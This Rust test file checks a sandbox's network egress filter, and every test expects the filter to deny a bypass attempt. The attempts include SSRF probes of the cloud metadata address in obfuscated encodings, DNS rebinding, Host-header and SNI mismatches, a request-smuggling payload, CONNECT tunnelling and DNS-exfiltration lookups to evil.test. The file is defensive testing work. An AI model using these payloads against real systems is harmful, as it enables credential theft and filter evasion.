//! Ways around the rules that others have fallen for. Each is refused, and its reason is told.

use std::net::Ipv4Addr;

use atoll_protocol::{DenialReason, EgressProtocol, EgressRule, NetworkPolicy};
use atoll_runtime::Sandbox;

use super::outside::{Authority, Server};
use super::{assert_denied, domain, loopback, policy, python, reasons, sh, with};
use crate::harness::{Fixture, assert_exited, err, eventually, out};

in_every_mode! {
    isolated {
        special_addresses_are_closed,
        an_address_after_a_redirect_is_closed,
        a_name_that_turns_into_a_private_address_is_closed,
        the_machine_itself_is_closed,
        names_are_compared_in_one_spelling,
        a_request_for_another_host_is_refused,
        what_is_odd_about_a_request_is_refused,
        a_host_that_is_allowed_is_no_way_to_others,
        tls_for_another_name_is_refused,
        a_hidden_name_is_refused,
        fronting_is_seen_where_tls_is_looked_into,
        other_protocols_need_a_rule,
        an_empty_list_allows_nothing,
        questions_carry_nothing_out,
        a_wildcard_is_no_tunnel,
        nothing_but_tcp_goes_out,
        an_address_of_ours_that_stands_for_nothing_is_closed,
    }
}

async fn special_addresses_are_closed(f: &Fixture) {
    let sandbox = with(f, policy(vec![domain("a.test", &[80])], &[])).await;
    for address in [
        "169.254.169.254",
        "[fd00:ec2::254]",
        "10.0.0.1",
        "172.16.0.1",
        "192.168.0.1",
        "100.64.0.1",
        "[::ffff:169.254.169.254]",
        "[64:ff9b::a9fe:a9fe]",
        "[2002:a9fe:a9fe::]",
        "2852039166",
        "0xA9.0xFE.0xA9.0xFE",
        "0251.0376.0251.0376",
        "169.16689662",
    ] {
        let output =
            sh(&sandbox, &format!("curl -sS -m 5 -o body -w '%{{http_code}}' 'http://{address}/'; cat body")).await;
        assert_denied(&output, DenialReason::AddressNotPublic);
        assert!(
            out(&output).contains("403") && out(&output).contains("address_not_public"),
            "{address}: {}",
            out(&output)
        );
    }
    // These the kernel refuses by itself; the first is the sandbox's own loopback.
    for address in ["0.0.0.0", "224.0.0.1", "255.255.255.255", "[fe80::1]", "[ff02::1]"] {
        let output = sh(&sandbox, &format!("curl -sS -m 5 'http://{address}/'")).await;
        assert_exited(&output, 7);
    }
}

async fn an_address_after_a_redirect_is_closed(f: &Fixture) {
    let outside = Server::http().await;
    let port = outside.port;
    let sandbox = with(f, policy(vec![domain("a.test", &[port]), loopback(&[port])], &["a.test"])).await;
    let url = format!("http://a.test:{port}/redirect?http://169.254.169.254/latest/meta-data/");
    let output = sh(&sandbox, &format!("curl -sSL '{url}'")).await;
    assert_denied(&output, DenialReason::AddressNotPublic);
    assert_eq!(outside.heard().len(), 1);
}

async fn a_name_that_turns_into_a_private_address_is_closed(f: &Fixture) {
    for (address, reason) in [
        (Ipv4Addr::new(10, 0, 0, 1), DenialReason::AddressNotPublic),
        (Ipv4Addr::new(169, 254, 169, 254), DenialReason::AddressNotPublic),
        (Ipv4Addr::LOCALHOST, DenialReason::AddressNotPublic),
        (Ipv4Addr::UNSPECIFIED, DenialReason::AddressNotPublic),
    ] {
        let names = Server::names(address).await;
        let given = NetworkPolicy {
            resolver: Some(format!("127.0.0.1:{}", names.port)),
            ..policy(vec![domain("rebind.test", &[80])], &[])
        };
        let sandbox = with(f, given).await;
        let output = sh(&sandbox, "curl -sS http://rebind.test/").await;
        assert_denied(&output, reason);
        // Nor if the name is only said, to an address that is public.
        let output = sh(&sandbox, "curl -sS -m 5 -H 'Host: rebind.test' http://1.1.1.1/").await;
        assert_denied(&output, reason);
    }
}

async fn the_machine_itself_is_closed(f: &Fixture) {
    let outside = Server::http().await;
    let port = outside.port;
    let sandbox = with(f, policy(vec![domain("a.test", &[port])], &["a.test"])).await;
    assert_exited(&sh(&sandbox, &format!("curl -sS http://127.0.0.1:{port}/")).await, 7);
    assert_exited(&sh(&sandbox, &format!("curl -sS http://[::1]:{port}/")).await, 7);
    assert_denied(&sh(&sandbox, &format!("curl -sS http://a.test:{port}/")).await, DenialReason::AddressNotPublic);
    assert!(outside.heard().is_empty());
}

/// A sandbox that may reach `a.test` and `b.test`, which are the same server, and nothing else.
async fn two(f: &Fixture, outside: &Server) -> Sandbox {
    let port = outside.port;
    let rules = vec![domain("a.test", &[port]), domain("b.test", &[port]), loopback(&[port])];
    with(f, policy(rules, &["a.test", "b.test", "c.test"])).await
}

async fn names_are_compared_in_one_spelling(f: &Fixture) {
    let outside = Server::http().await;
    let port = outside.port;
    let sandbox = two(f, &outside).await;
    for name in ["A.TEST", "a.test."] {
        assert_exited(&sh(&sandbox, &format!("curl -fsS http://{name}:{port}/")).await, 0);
    }
    assert_eq!(outside.heard().len(), 2);
    for name in ["a.test.c.test", "xa.test", "a.test..", "a%00.test"] {
        let output = sh(&sandbox, &format!("curl -sS 'http://{name}:{port}/'")).await;
        assert_ne!(output.end.code, Some(0), "{name}: {}", out(&output));
    }
    // A NUL, a dot and other letters within a label, as no resolver would send them.
    for label in [r"evil\x00", r"a\x2eb", r"a b", r"\xc3\xbc"] {
        let output = python(
            &sandbox,
            &format!(
                "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(5)\nlabel = b'{label}'\n\
                 q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + bytes([len(label)]) + label + \
                 b'\\x01a\\x04test\\x00\\x00\\x01\\x00\\x01'\ns.connect(('198.18.0.1', 53))\ns.send(q)\nprint(s.recv(512)[3] & 15)"
            ),
        )
        .await;
        assert_eq!(out(&output), "3\n", "{label} {}", err(&output));
        assert_denied(&output, DenialReason::BadName);
    }
}

async fn a_request_for_another_host_is_refused(f: &Fixture) {
    let outside = Server::http().await;
    let port = outside.port;
    let sandbox = two(f, &outside).await;
    // Both are allowed, and still a connection to one is not for the other.
    for (host, reason) in [
        (format!("b.test:{port}"), DenialReason::NameMismatch),
        ("evil.test".to_owned(), DenialReason::NameMismatch),
        ("a.test:1".to_owned(), DenialReason::NameMismatch),
        (format!("user@a.test:{port}"), DenialReason::BadName),
        ("127.0.0.1".to_owned(), DenialReason::BadName),
        ("bücher.test".to_owned(), DenialReason::BadName),
        (String::new(), DenialReason::BadName),
    ] {
        let header = if host.is_empty() { "Host;".to_owned() } else { format!("Host: {host}") };
        let output = sh(&sandbox, &format!("curl -sS -H '{header}' http://a.test:{port}/")).await;
        assert_denied(&output, reason);
    }
    // The second request of a connection is looked at like the first.
    let text = format!(
        "GET / HTTP/1.1\\r\\nHost: a.test:{port}\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: b.test:{port}\\r\\n\\r\\n"
    );
    let output = raw(&sandbox, "a.test", port, &text).await;
    assert_denied(&output, DenialReason::NameMismatch);
    assert!(out(&output).contains("200 OK") && out(&output).contains("403 Forbidden"), "{}", out(&output));
    assert_eq!(outside.heard().len(), 1);
}

/// Says bytes (as python writes them) to a host, and prints what comes back.
async fn raw(sandbox: &Sandbox, host: &str, port: u16, bytes: &str) -> atoll_runtime::ExecOutput {
    python(
        sandbox,
        &format!(
            "import socket\ns = socket.create_connection(('{host}', {port}), 10)\ns.sendall(b'{bytes}')\nout = b''\n\
             try:\n  while True:\n    got = s.recv(65536)\n    if not got: break\n    out += got\n\
             except OSError as e: print(type(e).__name__)\nprint(out)"
        ),
    )
    .await
}

async fn what_is_odd_about_a_request_is_refused(f: &Fixture) {
    let outside = Server::http().await;
    let port = outside.port;
    let sandbox = two(f, &outside).await;
    for (text, reason) in [
        (format!("GET / HTTP/1.1\\r\\nHost: a.test:{port}\\r\\nHost: b.test\\r\\n\\r\\n"), DenialReason::Malformed),
        (
            format!("GET http://b.test:{port}/ HTTP/1.1\\r\\nHost: a.test:{port}\\r\\n\\r\\n"),
            DenialReason::NameMismatch,
        ),
        (format!("GET http://u:p@a.test:{port}/ HTTP/1.1\\r\\nHost: a.test:{port}\\r\\n\\r\\n"), DenialReason::BadName),
        (format!("GET / HTTP/1.1\\r\\nHost: evil\\x00.a.test:{port}\\r\\n\\r\\n"), DenialReason::Malformed),
        (format!("GET / HTTP/1.1\\r\\nHost : a.test:{port}\\r\\n\\r\\n"), DenialReason::Malformed),
        ("GET / HTTP/1.0\\r\\n\\r\\n".to_owned(), DenialReason::NoName),
        ("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n".to_owned(), DenialReason::ProtocolNotAllowed),
    ] {
        let output = raw(&sandbox, "a.test", port, &text).await;
        assert_denied(&output, reason);
        if reason == DenialReason::Malformed {
            assert!(out(&output).contains("403 Forbidden") && out(&output).contains("malformed"), "{}", out(&output));
        }
    }
    assert!(outside.heard().is_empty());
    // Also behind a request that is one.
    let text = format!("GET / HTTP/1.1\\r\\nHost: a.test:{port}\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost : b\\r\\n\\r\\n");
    let output = raw(&sandbox, "a.test", port, &text).await;
    assert_denied(&output, DenialReason::Malformed);
    assert!(out(&output).contains("welcome") && out(&output).contains("malformed"), "{}", out(&output));
    assert_eq!(outside.heard().len(), 1);
    // Two lengths: the other side sees one, and no second request in the body of the first.
    let text = format!(
        "POST / HTTP/1.1\\r\\nHost: a.test:{port}\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
    );
    raw(&sandbox, "a.test", port, &(text + "GET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")).await;
    assert!(outside.heard().iter().all(|head| !head.contains("smuggled")), "{:?}", outside.heard());
    // And no other protocol under the name of this one.
    let text = format!(
        "GET / HTTP/1.1\\r\\nHost: a.test:{port}\\r\\nConnection: upgrade, close\\r\\nUpgrade: h2c\\r\\n\\r\\n"
    );
    raw(&sandbox, "a.test", port, &text).await;
    assert!(outside.heard().iter().all(|head| !head.to_lowercase().contains("h2c")), "{:?}", outside.heard());
}

async fn a_host_that_is_allowed_is_no_way_to_others(f: &Fixture) {
    let outside = Server::http().await;
    let port = outside.port;
    let sandbox = two(f, &outside).await;
    let text = format!("CONNECT evil.test:443 HTTP/1.1\\r\\nHost: a.test:{port}\\r\\n\\r\\n");
    assert_denied(&raw(&sandbox, "a.test", port, &text).await, DenialReason::NameMismatch);
    let text = format!("CONNECT a.test:{port} HTTP/1.1\\r\\nHost: a.test:{port}\\r\\n\\r\\n");
    assert_denied(&raw(&sandbox, "a.test", port, &text).await, DenialReason::ProtocolNotAllowed);
    assert!(outside.heard().is_empty());
    // To those who insist we are a proxy, for what is allowed anyway.
    let proxy = "http://198.18.0.1:3128";
    let output = sh(
        &sandbox,
        &format!("curl -fsS -x {proxy} http://a.test:{port}/ && curl -fsS -p -x {proxy} http://b.test:{port}/"),
    )
    .await;
    assert_eq!(out(&output), "welcome\nwelcome\n", "{}", err(&output));
    let output = sh(&sandbox, &format!("curl -sS -x {proxy} http://c.test:{port}/")).await;
    assert_denied(&output, DenialReason::NoRule);
    let output = sh(&sandbox, &format!("curl -sS -p -x {proxy} http://c.test:{port}/")).await;
    assert_denied(&output, DenialReason::NoRule);
    let text = format!("CONNECT a.test:{port} HTTP/1.1\\r\\nHost: b.test:{port}\\r\\n\\r\\n");
    assert_denied(&raw(&sandbox, "198.18.0.1", 3128, &text).await, DenialReason::NameMismatch);
    let text = "CONNECT 169.254.169.254:80 HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n";
    assert_denied(&raw(&sandbox, "198.18.0.1", 3128, text).await, DenialReason::BadName);
}

async fn tls_for_another_name_is_refused(f: &Fixture) {
    let authority = Authority::new();
    let outside = Server::https(&authority, &["a.test", "b.test"]).await;
    let port = outside.port;
    let sandbox = two(f, &outside).await;
    let fetch =
        |sni: &str, host: &str| format!("curl -ksS --connect-to {sni}:{port}:{host}:{port} https://{sni}:{port}/");
    assert_eq!(out(&sh(&sandbox, &fetch("a.test", "a.test")).await), "welcome\n");
    let output = sh(&sandbox, &fetch("b.test", "a.test")).await;
    assert_denied(&output, DenialReason::NameMismatch);
    assert!(err(&output).contains("alert"), "{}", err(&output));
    assert_denied(&sh(&sandbox, &fetch("evil.test", "a.test")).await, DenialReason::NameMismatch);
    // By an address that we never gave: the name decides, and the address is the one that we find.
    assert_eq!(out(&sh(&sandbox, &fetch("a.test", "1.1.1.1")).await), "welcome\n");
    assert_denied(&sh(&sandbox, &fetch("c.test", "1.1.1.1")).await, DenialReason::NoRule);
    // Without a name there is nothing to go by.
    let output = sh(&sandbox, &format!("curl -ksS https://1.1.1.1:{port}/")).await;
    assert_denied(&output, DenialReason::NoName);
    for name in [r"evil\x00.a.test", "a.test.", "10.0.0.1"] {
        let output = python(&sandbox, &hello(name, "", port)).await;
        assert_denied(&output, DenialReason::BadName);
    }
    assert_eq!(outside.heard().len(), 2);
}

/// A hello with this name (as python writes it) and further extensions, said to `a.test`.
fn hello(name: &str, extensions: &str, port: u16) -> String {
    format!(
        "import socket, struct\n\
         def vec(n, b): return len(b).to_bytes(n, 'big') + b\n\
         ext = b'\\0\\0' + vec(2, vec(2, b'\\0' + vec(2, b'{name}'))) + b'{extensions}'\n\
         body = b'\\3\\3' + bytes(32) + b'\\0' + vec(2, b'\\x13\\x01') + b'\\1\\0' + vec(2, ext)\n\
         s = socket.create_connection(('a.test', {port}), 10)\n\
         s.sendall(b'\\x16\\3\\1' + vec(2, b'\\1' + vec(3, body)))\n\
         print(s.recv(100).hex())"
    )
}

async fn a_hidden_name_is_refused(f: &Fixture) {
    let authority = Authority::new();
    let outside = Server::https(&authority, &["a.test"]).await;
    let sandbox = two(f, &outside).await;
    for extension in [r"\xfe\x0d\x00\x01\x00", r"\xff\xce\x00\x00"] {
        let output = python(&sandbox, &hello("a.test", extension, outside.port)).await;
        assert_denied(&output, DenialReason::HiddenName);
        assert_eq!(out(&output), "15030300020231\n");
    }
    // Two names in one hello.
    let output = python(&sandbox, &hello("a.test", r"\x00\x00\x00\x0b\x00\x09\x00\x00\x06b.test", outside.port)).await;
    assert_denied(&output, DenialReason::Malformed);
}

async fn fronting_is_seen_where_tls_is_looked_into(f: &Fixture) {
    let authority = Authority::new();
    let outside = Server::https(&authority, &["a.test"]).await;
    let port = outside.port;
    let rules = vec![EgressRule { inspect: true, ..domain("a.test", &[port]) }, loopback(&[port])];
    let given = NetworkPolicy { trust: Some(authority.pem.clone()), ..policy(rules, &["a.test"]) };
    let sandbox = with(f, given).await;
    // No -k: the sandbox's own authority is trusted inside.
    assert_eq!(out(&sh(&sandbox, &format!("curl -sS https://a.test:{port}/")).await), "welcome\n");
    let output = sh(&sandbox, &format!("curl -sS -H 'Host: evil.test' https://a.test:{port}/")).await;
    assert_denied(&output, DenialReason::NameMismatch);
    assert_eq!(outside.heard().len(), 1);
}

async fn other_protocols_need_a_rule(f: &Fixture) {
    let outside = Server::echo().await;
    let port = outside.port;
    let sandbox = two(f, &outside).await;
    for bytes in [r"\x05\x01\x00", "SSH-2.0-x\\r\\n", r"\x00"] {
        assert_denied(&raw(&sandbox, "a.test", port, bytes).await, DenialReason::ProtocolNotAllowed);
    }
    let any = EgressRule { protocols: Some(vec![EgressProtocol::Tcp]), ..domain("a.test", &[port]) };
    sandbox.set_network(policy(vec![any, loopback(&[port])], &["a.test"])).await.unwrap();
    // The other side speaks first, so nothing may wait for the program to.
    let output = sh(
        &sandbox,
        &format!("exec 3<>/dev/tcp/a.test/{port}; read -u 3 x; echo $x; echo again >&3; read -u 3 x; echo $x"),
    )
    .await;
    assert_eq!(out(&output), "hello\nagain\n", "{}", err(&output));
    // Only TLS, and it is not.
    let tls = EgressRule { protocols: Some(vec![EgressProtocol::Tls]), ..domain("a.test", &[port]) };
    sandbox.set_network(policy(vec![tls, loopback(&[port])], &["a.test"])).await.unwrap();
    assert_denied(&sh(&sandbox, &format!("curl -sS http://a.test:{port}/")).await, DenialReason::ProtocolNotAllowed);
}

async fn an_empty_list_allows_nothing(f: &Fixture) {
    let outside = Server::http().await;
    let sandbox = two(f, &outside).await;
    sandbox.set_network(policy(Vec::new(), &["a.test"])).await.unwrap();
    let output = sh(&sandbox, &format!("curl -sS http://a.test:{}/", outside.port)).await;
    assert_denied(&output, DenialReason::NoRule);
    let output = sh(&sandbox, "curl -sS -m 5 http://1.1.1.1/").await;
    assert_denied(&output, DenialReason::NoRule);
    let output = sh(&sandbox, "curl -sS -m 5 -x http://198.18.0.1:3128 http://a.test/").await;
    assert_denied(&output, DenialReason::NoRule);
    // A sandbox that was made with one has no way out at all.
    let sandbox = with(f, policy(Vec::new(), &[])).await;
    assert!(!sandbox.network().open);
    assert_exited(&sh(&sandbox, "curl -sS http://1.1.1.1/").await, 7);
}

async fn questions_carry_nothing_out(f: &Fixture) {
    let names = Server::names(Ipv4Addr::new(1, 1, 1, 1)).await;
    let resolver = Some(format!("127.0.0.1:{}", names.port));
    let rules = vec![domain("a.test", &[443])];
    let sandbox = with(f, NetworkPolicy { resolver, ..policy(rules, &[]) }).await;
    let output =
        sh(&sandbox, "for x in 1 2 3; do getent hosts data-$x.evil.test; done; getent hosts data.a.test").await;
    assert_eq!(reasons(&output), [DenialReason::NoRule; 4], "{:?}", output.end.denials);
    assert_eq!(names.heard(), Vec::<String>::new());
    // Whoever is asked, it is us.
    let query = |kind: u16, server: &str, transport: &str| {
        let dns = "q = b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\4test\\0' + bytes([0, KIND, 0, 1])"
            .replace("KIND", &kind.to_string());
        let talk = match transport {
            "udp" => {
                "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect((S, 53)); s.send(q); r = s.recv(512)"
            }
            _ => {
                "s = socket.create_connection((S, 53), 5); s.sendall(len(q).to_bytes(2, 'big') + q); r = s.recv(512)[2:]"
            }
        };
        format!("import socket\n{dns}\nS = '{server}'\n{talk}\nprint(r[3] & 15, r[7], '.'.join(map(str, r[-4:])))")
    };
    for (server, transport) in [("198.18.0.1", "udp"), ("8.8.8.8", "udp"), ("8.8.8.8", "tcp")] {
        let output = python(&sandbox, &query(1, server, transport)).await;
        assert_eq!(out(&output), "0 1 198.18.1.0\n", "{server} {transport} {}", err(&output));
    }
    for kind in [16, 255, 12, 10, 15] {
        let output = python(&sandbox, &query(kind, "198.18.0.1", "udp")).await;
        assert!(out(&output).starts_with("5 0 "), "{kind} {}", out(&output));
        assert_denied(&output, DenialReason::QueryType);
    }
    for kind in [28, 65] {
        let output = python(&sandbox, &query(kind, "198.18.0.1", "udp")).await;
        assert!(out(&output).starts_with("0 0 ") && reasons(&output).is_empty(), "{kind} {}", out(&output));
    }
    assert!(names.heard().iter().all(|name| name.starts_with("\u{1}a\u{4}test")), "{:?}", names.heard());
}

async fn a_wildcard_is_no_tunnel(f: &Fixture) {
    let names = Server::names(Ipv4Addr::new(1, 1, 1, 1)).await;
    let resolver = Some(format!("127.0.0.1:{}", names.port));
    let sandbox = with(f, NetworkPolicy { resolver, ..policy(vec![domain("*.a.test", &[443])], &[]) }).await;
    let output = sh(&sandbox, "getent hosts $(printf 'a%.0s' {1..60}).$(printf 'b%.0s' {1..60}).a.test").await;
    assert_denied(&output, DenialReason::QueryLimit);
    let output = python(
        &sandbox,
        "import socket\nok = 0\nfor n in range(150):\n  try: socket.gethostbyname(f'x{n}.a.test'); ok += 1\n  except OSError: pass\nprint(ok)",
    )
    .await;
    let told: usize = out(&output).trim().parse().unwrap();
    assert!((100..130).contains(&told), "{told}");
    assert!(
        reasons(&output).iter().all(|reason| *reason == DenialReason::QueryLimit) && output.end.denials_count >= 20
    );
    // Those that are known stay known.
    assert_exited(&sh(&sandbox, "getent hosts x0.a.test").await, 0);
}

async fn nothing_but_tcp_goes_out(f: &Fixture) {
    let sandbox = with(f, policy(vec![domain("a.test", &[443])], &[])).await;
    let output = python(
        &sandbox,
        "import socket\nfor a in ['1.1.1.1', '198.18.1.0']:\n  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n  s.settimeout(5)\n  \
         s.connect((a, 443))\n  s.send(b'quic')\n  try: print(s.recv(10))\n  except OSError as e: print(type(e).__name__)\n\
         s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\ns.settimeout(5)\ns.connect(('2606:4700::1111', 443))\ns.send(b'quic')\n\
         try: print(s.recv(10))\nexcept OSError as e: print(type(e).__name__)\n\
         try: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\nexcept OSError as e: print(type(e).__name__)",
    )
    .await;
    let refused = "ConnectionRefusedError\n".repeat(3);
    assert_eq!(out(&output), format!("{refused}PermissionError\n"), "{}", err(&output));
    // The kernel tells it beside the packet's way, so it may come a moment after the end.
    let told = || sandbox.egress_events().since(0, 100).events;
    eventually("three refusals", || told().len() >= 3).await;
    for event in told() {
        assert_eq!((event.reason, event.port), (Some(DenialReason::UdpNotAllowed), Some(443)));
    }
}

async fn an_address_of_ours_that_stands_for_nothing_is_closed(f: &Fixture) {
    let open = EgressRule {
        cidr: Some("0.0.0.0/0".to_owned()),
        ports: Some(vec!["1-65535".to_owned()]),
        ..EgressRule::default()
    };
    let sandbox = with(f, policy(vec![open], &[])).await;
    for address in ["198.18.1.7", "198.19.255.255", "198.18.0.1"] {
        assert_denied(&sh(&sandbox, &format!("curl -sS -m 5 http://{address}/")).await, DenialReason::NoRule);
    }
}
